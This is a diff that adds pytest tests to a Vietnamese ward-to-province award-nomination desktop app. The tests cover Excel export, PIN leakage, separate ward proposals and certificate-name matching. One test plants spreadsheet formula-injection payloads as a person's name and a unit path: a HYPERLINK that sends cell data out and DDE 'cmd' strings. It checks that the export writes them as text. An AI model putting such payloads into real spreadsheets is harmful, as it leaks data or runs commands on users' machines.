@@ -325,3 +325,93 @@ def test_not_a_number_is_refused(office, tmp_path):
     path = _rebuilt(tmp_path, "nan.bdhvs-goi", blob)
     out = province.import_packages(office, [path], trust_roots=()).outcomes[0]
     assert not out.imported and "package.json" in out.message, out.message
+
+
+# ------------------------------------------------------------------------ what leaves the office
+
+
+def test_a_formula_for_a_name_stays_text_in_the_provinces_excel(office, tmp_path):
+    """A ward names a person `=HYPERLINK(…)` and a unit `+cmd|…`: the province's Excel export of the
+    people and units it imported writes them as text cells, never formulas."""
+    from openpyxl import load_workbook
+
+    from bdhvs_desktop.services.exporter import export
+
+    evil = '=HYPERLINK("http://x.invalid/?"&A2,"Xem")'
+    data, docs = ward_package("P-LAGI", "Phường La Gi", n=3, seed=1, with_docs=False,
+                              people=[Person(evil, "068190000009", dt.date(1980, 1, 1))])
+    data["candidates"][0]["unit_path"] = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert province.import_packages(office, [write_ward_package(tmp_path / "f.bdhvs-goi", data, docs)],
+                                    trust_roots=()).outcomes[0].imported
+    out = tmp_path / "xuat.xlsx"
+    export(office, ["people", "units"], out)
+    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value[:1] in "=+@-"]
+    assert {c.value for c in cells} >= {evil, "+cmd|' /C calc'!A0"}, [c.value for c in cells]
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_a_wrong_pin_is_not_repeated_anywhere(tmp_path_factory, caplog):
+    """A wrong PIN typed for the ward's token (SoftHSM2): the error says the PIN is wrong without the PIN,
+    in its message, its causes, the logs and the signer settings' repr."""
+    import logging
+    import traceback
+
+    from pki import shared_pki, softhsm_lib
+
+    from bdhvs_desktop.documents import signing
+
+    if softhsm_lib() is None:
+        pytest.skip("SoftHSM2 is not installed")
+    pki = shared_pki(tmp_path_factory)
+    secret = "864209-bi-mat"
+    cfg = pki.config(pki.ward, pin=secret)
+    caplog.set_level(logging.DEBUG)
+    with pytest.raises(signing.SigningError) as info:
+        signing.sign_detached(b"manifest", cfg)
+    told = "".join(traceback.format_exception(info.value)) + caplog.text + repr(cfg) + str(cfg)
+    assert "PIN" in str(info.value) and secret not in told
+
+
+def test_approving_one_wards_proposal_leaves_the_other_wards(office, tmp_path):
+    """The same person (same CCCD, same candidate key) proposed by two wards: the province council
+    approves La Gi's and rejects Tân An's; each keeps its own status, person row and unit."""
+    from bdhvs_desktop.services import council as cs
+    from bdhvs_desktop.storage import models as m
+
+    for code, name, seed in (("P-LAGI", "Phường La Gi", 1), ("P-TANAN", "Phường Tân An", 2)):
+        data, docs = ward_package(code, name, n=1, seed=seed, people=[HOA], with_docs=False)
+        assert province.import_packages(office, [write_ward_package(tmp_path / f"{code}.bdhvs-goi", data, docs)],
+                                        trust_roots=()).outcomes[0].imported
+    lagi, tanan = (pv.ward_candidates(office, code)[0] for code in ("P-LAGI", "P-TANAN"))
+    assert lagi.candidate_id != tanan.candidate_id
+    member = cs.add_member(office, "Phạm Quốc Tỉnh", position="Phó Chủ tịch UBND tỉnh", role="chair")
+    meeting = cs.new_meeting(office, dt.datetime(2026, 12, 2, 8), place="Hội trường", number="05/BB-HĐTĐKT",
+                             ended_at=dt.datetime(2026, 12, 2, 10))
+    cs.record_vote(office, meeting, lagi.candidate_id, 1, 0, 0)
+    cs.record_vote(office, meeting, tanan.candidate_id, 0, 1, 0)
+    cs.decide(office, meeting)
+    status = {c.id: c.status for c in cs.list_candidates(office)}
+    assert status[lagi.candidate_id] == "approved" and status[tanan.candidate_id] != "approved", status
+    with office.read() as s:
+        a, b = s.get(m.Candidate, lagi.candidate_id), s.get(m.Candidate, tanan.candidate_id)
+        assert a.person_id != b.person_id
+        units = {s.get(m.Person, a.person_id).unit.code, s.get(m.Person, b.person_id).unit.code}
+    assert sorted(u.split("/")[0] for u in units) == ["P-LAGI", "P-TANAN"]
+    assert member
+
+
+@pytest.mark.parametrize(("names", "ward", "named"), [
+    (("ỦY BAN NHÂN DÂN PHƯỜNG LA GI",), "Phường La Gi", True),
+    (("Chứng thư", "UBND P. Tân An"), "Phường Tân An", True),
+    (("UBND TT. Liên Nghĩa",), "Thị trấn Liên Nghĩa", True),
+    (("UBND Phường 1, Quận 3",), "Phường 1", True),
+    (("UBND Phường 12, Quận 3",), "Phường 1", False),
+    (("UBND phường Tân An Hội",), "Phường Tân An", False),
+    (("UBND xã Tân An",), "Phường Tân An", False),
+    (("UBND phường La Gi",), "Phường Tân An", False),
+])
+def test_which_certificate_names_which_ward(names, ward, named):
+    from bdhvs_desktop.services.province_check import signer_is_ward
+
+    assert signer_is_ward(names, ward) is named
